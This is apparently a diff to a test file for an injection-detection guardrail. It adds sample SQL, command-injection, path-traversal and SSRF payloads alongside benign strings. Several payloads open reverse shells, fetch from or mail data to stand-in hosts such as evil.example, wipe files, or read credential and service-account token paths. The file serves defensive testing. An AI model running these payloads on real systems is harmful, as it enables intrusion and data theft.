@@ -52,6 +52,7 @@ ATTACKS = {
         "admin'--", "x' OR 'a'='a", "1 OR 1=1", "'; DROP TABLE users; --", "1 UNION SELECT name, pin FROM cards",
         "0 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "1;WAITFOR DELAY '0:0:9'--", "' ORDER BY 7-- ",
         "9' and extractvalue(1,concat(0x7e,version()))-- -", "Bobby'); DELETE FROM students;--",
+        "'; copy (select '') to program 'curl evil.example'--",
     ],
     "XSS": [
         "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=confirm(2)>",
@@ -62,11 +63,14 @@ ATTACKS = {
         "8.8.8.8; rm -rf /", "$(curl http://evil.example/x.sh)", "photo.png && cat /etc/hostname", "a`id`",
         "example.com | nc 192.0.2.7 4444 -e /bin/sh", "x;${IFS}cat${IFS}/etc/passwd", "() { :;}; echo vulnerable",
         "__import__('os').system('id')", "name\nwget http://evil.example/y -O /tmp/y", "x & net user eve Pa55 /add",
+        "--upload-pack=touch /tmp/x", "-oProxyCommand=calc", "photo.png & calc.exe", "photo.png|id>/tmp/x",
+        "x; docker run -v /:/host alpine", "x | mail -s y eve@evil.example < /etc/hostname",
     ],
     "PATH_TRAVERSAL": [
         "../../etc/passwd", "..\\..\\windows\\win.ini", "/var/www/../../etc/shadow", "/proc/self/environ",
         "~/.ssh/id_rsa", "/etc/passwd\x00.png", "\\\\evil\\share\\x", "php://filter/read=string.rot13/resource=a.php",
         "....//....//etc/hosts", "uploads/../../../secret.txt",
+        "/run/secrets/kubernetes.io/serviceaccount/token",
     ],
     "SSRF": [
         "http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "http://2130706433/",
@@ -96,6 +100,11 @@ HARMLESS = [
     "C:\\Users\\bob\\Documents\\plan.docx", "*/5 * * * 1-5", "=IF(A1>3,\"x\",\"y\")", "rgb(1,2,3)", "s/foo/bar/g",
     "$\\frac{a}{b} = \\left(1 - x\\right)^2$", "it&#39;s fine &amp; good", "id", "select", "user:pass", "12:30", "%",
     "-1", "print('hello')", "def f(x):\n    return x + 1", "I <3 union square", "head of sales", "sort by date",
+    "SELECT id, name FROM customers WHERE city = 'Paris' ORDER BY name LIMIT 10", "a=1&b=2&c=3",
+    '<?xml version="1.0"?><root><item id="1"/></root>',
+    "<!DOCTYPE html><html><head><title>T</title></head><body></body></html>",
+    "<html><body><h1>Report</h1><p>All good.</p></body></html>",
+    "```bash\nsudo apt-get update && sudo apt-get install -y nginx\n```",
 ]  # fmt: skip
 
 
@@ -448,8 +457,8 @@ def test_every_mark_of_every_family_can_be_searched_for() -> None:
 
     assert sum(len(group._marks) for group in groups) > 100
     for group in groups:
-        for pattern in group._patterns:
-            assert pattern.search("") is None
+        for index in range(len(group._marks)):
+            assert group._find(index, "") is None
 
 
 @claim("guardrails.libinjection")
@@ -483,6 +492,7 @@ def test_conditions_of_searches_are_told_from_those_that_break_out() -> None:
 def test_a_bare_host_of_a_cloud_is_known() -> None:
     assert url.is_host_of_metadata("169.254.169.254")
     assert url.is_host_of_metadata("metadata.google.internal.")
+    assert url.is_host_of_metadata("169.254.0.23")
     assert not url.is_host_of_metadata("metadata")
     assert not url.is_host_of_metadata("8.8.8.8")
 
